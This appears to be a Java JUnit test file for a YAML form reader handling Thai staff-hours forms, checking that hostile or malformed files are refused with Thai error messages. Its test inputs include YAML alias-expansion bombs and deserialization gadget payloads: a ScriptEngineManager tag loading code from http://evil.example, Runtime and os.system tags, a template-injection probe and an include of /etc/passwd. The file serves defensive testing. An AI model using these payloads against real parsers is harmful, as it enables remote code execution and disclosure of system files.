package phonngan.intake.yaml;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import phonngan.common.Language;
import phonngan.common.Problem;
import phonngan.common.Wording;
import phonngan.intake.FormReading;

/// Whatever stands in a form's file, it ends in sentences that say what to do.
class HostileFormsTest {
    private static final String FORM = """
                                       form: hours
                                       fiscal_year: 2566
                                       indicator: self-dev
                                       identity: { column: รหัสคำตอบ }
                                       columns:
                                         staff_id: { title: [รหัส] }
                                         value: { title: [ชั่วโมง] }
                                       """;

    @Test
    void theFormItselfIsUnderstood() {
        assertThat(FormReader.read("form.yaml", FORM.getBytes(StandardCharsets.UTF_8)))
                .isInstanceOf(FormReading.Understood.class);
    }

    @Test
    void aLaughterOfAliasesIsRefused() {
        var laughter = new StringBuilder("a0: &a0 [ha, ha, ha, ha, ha, ha, ha, ha, ha]\n");
        for (int depth = 1; depth < 20; depth++) {
            laughter.append("a%d: &a%d [".formatted(depth, depth)).append(("*a" + (depth - 1) + ", ").repeat(9))
                    .append("x]\n");
        }
        assertThat(told(laughter + FORM)).isNotEmpty();
        assertThat(told("columns: &c { value: *c }\n")).isNotEmpty();
    }

    @Test
    void nestingWithoutEndIsRefusedAtOnce() {
        for (var open : List.of("[", "{ a: ", "- ", "? ", "a: [")) {
            assertThat(told(open.repeat(100_000))).containsExactly("not-yaml@1");
        }
    }

    @Test
    void aKeyThatStandsTwiceIsTold() {
        assertThat(told(FORM + "form: other\n")).containsExactly("doubled-key@8");
        assertThat(told(FORM + "  value: { title: [อื่น] }\n")).containsExactly("doubled-key@8");
    }

    @ParameterizedTest
    @ValueSource(strings = {"!!javax.script.ScriptEngineManager [!!java.net.URL [http://evil.example]]",
            "!!java.lang.Runtime {}", "!<tag:yaml.org,2002:python/object/apply:os.system> [id]", "!!binary AAAA",
            "{ <<: { title: x } }", "&x *x", "{{7*7}}", "!include /etc/passwd"})
    void tagsMakeNothing(String value) {
        assertThat(told(FORM.replace("self-dev", value))).isNotEmpty();
    }

    @Test
    void aTemplateIsJustText() {
        assertThat(
                FormReader.read("form.yaml", FORM.replace("ชั่วโมง", "'${env:HOME}'").getBytes(StandardCharsets.UTF_8)))
                .isInstanceOfSatisfying(FormReading.Understood.class, it -> assertThat(it.form().columns().toString())
                        .contains("${env:HOME}"));
    }

    @Test
    void aFileOfAnotherEncodingIsToldToBeSavedAgain() {
        assertThat(told(FORM.getBytes(Charset.forName("x-windows-874")))).containsExactly("not-utf8");
        assertThat(told(FORM.getBytes(StandardCharsets.UTF_16))).containsExactly("not-utf8");
        assertThat(told(FORM.getBytes(StandardCharsets.UTF_16LE))).isNotEmpty();
    }

    @Test
    void aFileOfManyMegabytesIsNotEvenRead(@TempDir Path folder) throws IOException {
        var huge = folder.resolve("form.yaml");
        try (var file = new RandomAccessFile(huge.toFile(), "rw")) {
            file.setLength(3L << 30);
        }
        assertThat(problems(FormReader.read(huge))).containsExactly("yaml-too-large");
        assertThat(told("# " + "ก".repeat(500_000))).containsExactly("yaml-too-large");
    }

    @Test
    void aFixedFigureMustBeOne() {
        for (var figure : List.of("1e999999999", "abc", "-1", "NaN", "'' ", "[1]", "'1,00'")) {
            assertThat(told(FORM + """
                                   claims:
                                     - id: a
                                       set: { value: %s }
                                       columns: { note: { title: [ข้อ] } }
                                   """.formatted(figure))).as(figure).containsExactly("bad-number@10");
        }
    }

    @Test
    void aClaimMayNotImitateAnotherAnswersClaim() {
        assertThat(told(FORM + """
                               claims:
                                 - { id: a/b, columns: { note: { title: [ข้อ] } } }
                               """)).containsExactly("bad-id@9");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "# ว่าง\n", "null", "[]", "{}", "5", "ข้อความ", "? [a]\n: b\n", "*nothing\n",
            "%YAML 9.9\n---\na: 1\n", "---\n---\n", "a\u0000b", "\uFEFF", "\t- a", "form: \"\\ud800\"\n", "- - -\n"})
    void anythingElseIsNoForm(String text) {
        assertThat(told(text)).isNotEmpty();
    }

    private static List<String> told(String yaml) {
        return told(yaml.getBytes(StandardCharsets.UTF_8));
    }

    private static List<String> told(byte[] yaml) {
        return problems(FormReader.read("form.yaml", yaml));
    }

    private static List<String> problems(FormReading reading) {
        return switch (reading) {
            case FormReading.Understood _ -> List.of();
            case FormReading.Refused(var problems) -> problems.stream().map(HostileFormsTest::told).toList();
        };
    }

    private static String told(Problem problem) {
        assertThat(Wording.message(problem, Language.TH)).containsPattern("[ก-ฮ]");
        assertThat(Wording.remedy(problem, Language.TH)).containsPattern("[ก-ฮ]").doesNotContainPattern("\\{\\d}");
        var line = problem.place().line();
        return problem.code().word() + (line == null ? "" : "@" + line);
    }
}
